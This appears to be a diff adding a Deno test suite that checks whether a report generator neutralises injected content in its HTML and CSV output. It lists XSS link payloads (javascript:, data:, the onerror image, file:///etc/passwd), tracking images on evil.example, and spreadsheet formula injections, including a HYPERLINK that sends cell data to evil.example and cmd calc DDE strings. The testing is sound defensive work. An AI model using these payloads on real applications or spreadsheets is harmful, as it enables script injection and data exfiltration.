@@ -1,0 +1,142 @@
+/**
+ * Text from the data cannot become script in the HTML or a formula in the CSV: each payload is
+ * injected and the output checked inert. (Before the fix: `javascript:`, `data:` and `vbscript:`
+ * links were live, remote images loaded, a link in a citation or cause became a link, and
+ * `=HYPERLINK(…)`, `+`, `-`, `@` cells went into the tables unchanged.)
+ */
+import assert from "node:assert/strict";
+import { parse } from "csv-parse/sync";
+import { DOMParser } from "linkedom";
+import { csvTable, markdownHtml, showTable } from "../lib/display.ts";
+import { loadCaseSeries } from "../lib/load.ts";
+import { isSafeLink, markdownText } from "../lib/markdown.ts";
+import { caseIntro } from "../lib/report.ts";
+
+/** Links (href) and images (src) of an HTML fragment. */
+function urls(html: string): { links: string[]; images: string[] } {
+  const doc = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
+  return {
+    links: [...doc.querySelectorAll("a")].map((a) => a.getAttribute("href") ?? ""),
+    images: [...doc.querySelectorAll("img")].map((i) => i.getAttribute("src") ?? ""),
+  };
+}
+
+const LINKS = [
+  "[x](javascript:alert(1))",
+  "[x](JavaScript:alert(1))",
+  "[x](java\tscript:alert(1))",
+  "[x](&#106;avascript:alert(1))",
+  "[x](javascript&colon;alert(1))",
+  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[x](vbscript:msgbox(1))",
+  "[x](file:///etc/passwd)",
+  "[x](//evil.example/x)",
+  "<javascript:alert(1)>",
+  "[x][r]\n\n[r]: javascript:alert(1)",
+];
+const IMAGES = [
+  "![x](http://evil.example/track.png)",
+  "![x](https://evil.example/track.png)",
+  "![x](//evil.example/track.png)",
+  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
+];
+
+Deno.test("Markdown to HTML: links only to http(s) and relative URLs, no image from elsewhere", () => {
+  for (const md of LINKS) {
+    const { links } = urls(markdownHtml(md));
+    assert.deepEqual(links, [], `${JSON.stringify(md)} gives no link`);
+    assert.match(markdownHtml(md), /x|javascript/, "its text is still shown");
+  }
+  for (const md of IMAGES) {
+    const html = markdownHtml(md);
+    assert.deepEqual(urls(html).images, [], `${JSON.stringify(md)} loads nothing`);
+    assert.match(html, /<p>x<\/p>/, "its alternative text is shown");
+  }
+  // What stays: http(s) and relative links, relative images.
+  const ok = urls(markdownHtml("[a](https://doi.org/x) [b](../tables/a.csv) ![c](figures/c.png)"));
+  assert.deepEqual(ok.links, ["https://doi.org/x", "../tables/a.csv"]);
+  assert.deepEqual(ok.images, ["figures/c.png"]);
+  assert.ok(!isSafeLink("  JAVASCRIPT:x"));
+  assert.ok(!isSafeLink("&#x6A;avascript:x"));
+});
+
+Deno.test("data text in a case's Markdown (cause, citation) shows as written, never as a link or image", async () => {
+  const s = await loadCaseSeries();
+  const c = s.cases[0];
+  const payloads = [
+    "[click](https://evil.example)",
+    "[x](javascript:alert(1))",
+    "![](http://evil.example/pixel.png)",
+    "<img src=x onerror=alert(1)>",
+    "*bold* _em_ `code` ~~del~~ $x$",
+    "line\n# heading\n- item",
+  ];
+  for (const payload of payloads) {
+    const sources = new Map(s.sources);
+    sources.set(c.sourceId, { ...s.sources.get(c.sourceId)!, citation: payload });
+    const series = { ...s, sources };
+    const html = markdownHtml(caseIntro(series, { ...c, cause: payload }));
+    // A bare http(s) URL in the text may show as a link to itself (GFM), nothing else.
+    const doc = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
+    for (const a of doc.querySelectorAll("a")) {
+      assert.equal(a.textContent, a.getAttribute("href"), `${payload}: a link shows its URL`);
+      assert.match(a.getAttribute("href") ?? "", /^https?:\/\//, payload);
+    }
+    assert.deepEqual(urls(html).images, [], payload);
+    assert.doesNotMatch(html, /<(em|strong|code|del|h1|ul|img)\b/, payload);
+    const text = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html")
+      .body.textContent ?? "";
+    const written = payload.replaceAll("\n", " ");
+    assert.ok(text.includes(`Cause: ${written}`), `shown as written: ${text}`);
+  }
+});
+
+Deno.test("markdownText escapes what Markdown would read and leaves ordinary text as it is", () => {
+  assert.equal(markdownText("a [b](c) *d*"), "a \\[b\\](c) \\*d\\*");
+  assert.equal(markdownText("# title"), "\\# title");
+  assert.equal(markdownText("1. first"), "1\\. first");
+  assert.equal(markdownText("two\nlines"), "two lines");
+  const plain = "Nagoshi Y, Watanabe A. Usefulness of milnacipran (2012);8:549–553.";
+  assert.equal(markdownText(plain), plain);
+});
+
+/** Formula payloads a spreadsheet would run. */
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  "-1+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "-x",
+  "＝1+1",
+];
+
+Deno.test("CSV tables: text cells a spreadsheet would run get a leading quote; numbers stay numbers", () => {
+  const rows = FORMULAS.map((f, i) => ({ text: f, n: -3.5 * i, flag: i % 2 === 0 }));
+  const back: string[][] = parse(csvTable(rows), { relax_quotes: false });
+  assert.deepEqual(back[0], ["text", "n", "flag"]);
+  back.slice(1).forEach((r, i) => {
+    assert.equal(r[0], `'${FORMULAS[i]}`, `${JSON.stringify(FORMULAS[i])} neutralised`);
+    assert.equal(r[1], String(-3.5 * i), "a number is written as it is");
+    assert.equal(r[2], String(i % 2 === 0));
+  });
+  assert.equal(csvTable([{ a: "plain", b: -Infinity, c: null }]), "a,b,c\nplain,-Inf,\n");
+});
+
+Deno.test("showTable writes the neutralised CSV to the results folder", async () => {
+  const dir = await Deno.makeTempDir({ prefix: "injection-test-" });
+  const before = Deno.env.get("RESULTS_DIR");
+  try {
+    Deno.env.set("RESULTS_DIR", dir);
+    await showTable("payloads", [{ cause: '=HYPERLINK("http://evil.example")', vas: -1 }]);
+    assert.equal(
+      await Deno.readTextFile(`${dir}/tables/payloads.csv`),
+      'cause,vas\n"\'=HYPERLINK(""http://evil.example"")",-1\n',
+    );
+  } finally {
+    if (before === undefined) Deno.env.delete("RESULTS_DIR");
+    else Deno.env.set("RESULTS_DIR", before);
+    await Deno.remove(dir, { recursive: true });
+  }
+});
